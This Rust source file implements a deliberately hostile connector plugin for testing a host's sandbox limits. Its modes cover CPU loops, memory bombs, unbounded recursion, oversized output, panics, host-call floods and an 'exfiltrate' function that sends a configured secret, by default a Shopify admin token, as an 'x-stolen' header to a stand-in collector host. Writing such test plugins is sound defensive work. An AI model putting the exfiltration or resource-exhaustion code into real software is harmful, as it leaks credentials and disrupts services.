//! A connector that misbehaves on purpose, so the host's limits can be tested against a
//! real component. `describe` behaves; `handle-webhook` does what the `behaviour` key of its
//! plugin config says:
//!
//! | behaviour         | what it does                                             | limit that stops it |
//! |-------------------|----------------------------------------------------------|---------------------|
//! | `loop`            | spins forever                                            | CPU time (epochs)   |
//! | `memory-bomb`     | allocates 1 MiB chunks until something gives             | memory cap          |
//! | `recursion`       | recurses without end                                     | stack cap           |
//! | `huge-output`     | returns 48 MiB of event text                             | output cap          |
//! | `panic`           | panics                                                   | trap                |
//! | `host-call-flood` | calls the host's clock in a loop                         | host-call quota     |
//! | `exfiltrate`      | sends the secret its `secret` config names (the Shopify admin token by default) as a header to its `target_url` | grants: secrets and hosts |
//!
//! `exfiltrate` replies with what the host sent back when it got through, and fails as
//! `misconfigured` with the host's error when it did not.

use helloword_sdk::connector::{
    Capability, Connector, IncomingRequest, Info, PollResult, Reply, WebhookError, WebhookOutcome,
    clock, config, http,
};
use helloword_sdk::types::{Action, ActionError, ActionOutcome, DedupeKey, IssueKind, TicketEvent};

struct Hostile;

fn behaviour() -> String {
    config::get("behaviour").unwrap_or_default()
}

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(depth: u64, trail: &mut [u8; 256]) -> u64 {
    trail[(depth % 256) as usize] = depth as u8;
    // The addition after the call keeps this from becoming a loop.
    recurse(depth + 1, trail) + u64::from(trail[0])
}

fn huge_output() -> Vec<TicketEvent> {
    // 1 MiB strings, as many as memory allows before the host's output cap.
    let chunk = "x".repeat(1 << 20);
    (0..48)
        .map(|i| {
            let dedupe = DedupeKey::business(format!("hostile:{i}"));
            let mut event =
                TicketEvent::new(IssueKind::Other, "hostile", format!("chunk {i}"), dedupe);
            event.buyer_text = Some(chunk.clone());
            event
        })
        .collect()
}

/// Send the secret named in the config to `target_url`, as a header the host fills in.
fn exfiltrate() -> Result<WebhookOutcome, WebhookError> {
    let url = config::get("target_url").unwrap_or_else(|| "https://collector.example.com/".into());
    let secret = config::get("secret").unwrap_or_else(|| "shopify_admin_token".into());
    let request = http::Request {
        method: "GET".into(),
        url,
        headers: vec![],
        secret_headers: vec![http::SecretHeader {
            name: "x-stolen".into(),
            prefix: String::new(),
            secret,
        }],
        body: vec![],
    };
    match http::send(&request) {
        Ok(response) => Ok(WebhookOutcome::Reply(Reply {
            status: 200,
            headers: vec![],
            body: response.body,
        })),
        Err(e) => Err(WebhookError::Misconfigured(format!("{e:?}"))),
    }
}

impl Connector for Hostile {
    fn describe() -> Info {
        Info {
            marketplace: "hostile".into(),
            display_name: "Hostile test plugin".into(),
            capabilities: vec![Capability::Webhooks],
            topics: vec![],
        }
    }

    fn handle_webhook(_req: IncomingRequest) -> Result<WebhookOutcome, WebhookError> {
        match behaviour().as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![0xAB; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => {
                let mut trail = [0u8; 256];
                let depth = recurse(0, &mut trail);
                Ok(WebhookOutcome::Ignored(depth.to_string()))
            }
            "huge-output" => Ok(WebhookOutcome::Events(huge_output())),
            "panic" => panic!("hostile plugin panics on purpose"),
            "host-call-flood" => {
                let mut last = 0;
                loop {
                    last = std::hint::black_box(clock::now().seconds.max(last));
                }
            }
            "exfiltrate" => exfiltrate(),
            other => Err(WebhookError::Misconfigured(format!(
                "unknown behaviour {other:?} in plugin config"
            ))),
        }
    }

    fn poll(_cursor: Option<String>) -> Result<PollResult, ActionError> {
        Err(ActionError::Permanent(
            "the hostile plugin does not poll".into(),
        ))
    }

    fn execute(_action: Action) -> Result<ActionOutcome, ActionError> {
        Err(ActionError::Permanent(
            "the hostile plugin has no actions".into(),
        ))
    }

    fn reconcile(_action: Action) -> Result<Option<ActionOutcome>, ActionError> {
        Ok(None)
    }
}

helloword_sdk::export_connector!(Hostile);
